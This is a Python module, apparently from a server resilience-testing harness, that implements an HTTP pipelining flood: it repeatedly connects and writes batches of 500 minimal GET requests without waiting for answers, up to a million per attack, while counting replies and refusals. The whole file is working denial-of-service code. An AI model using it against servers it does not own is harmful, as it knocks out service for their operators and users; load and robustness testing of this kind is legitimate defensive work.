"""The shortest requests there are, one behind the other, without waiting for an answer."""

import asyncio

from attacks.target import Target, Until, Wire, at_most

REQUEST = b"GET / HTTP/1.1\r\n\r\n"
AT_ONCE = 500  # requests in one write
MOST = 1_000_000  # requests of one attack: 18 MB
FIRST = 20.0  # seconds for the first answer, on a machine that is busy with other things


async def attack(target: Target, seconds: float) -> None:
    """One connection after another: the next one as soon as the server hangs up."""
    until = Until(seconds)
    while (until or not _heard(target)) and target.got["sent"] < MOST:
        wire = await target.connect()
        if wire is None:
            await asyncio.sleep(0.1)
            continue
        target.got["connections"] += 1
        reading = asyncio.create_task(wire.count_answers(target.got))
        sending = asyncio.create_task(_send(target, wire, until))
        left = until.left if _heard(target) else FIRST
        await at_most(left, reading)  # it ends when the server hangs up
        sending.cancel()
        await asyncio.wait({sending})
        await wire.hang_up()


async def _send(target: Target, wire: Wire, until: Until) -> None:
    while (until or not _heard(target)) and target.got["sent"] < MOST:
        if not await wire.send(REQUEST * AT_ONCE):
            return
        target.got["sent"] += AT_ONCE


def _heard(target: Target) -> int:
    return target.got["answered"] + target.got["refused"]
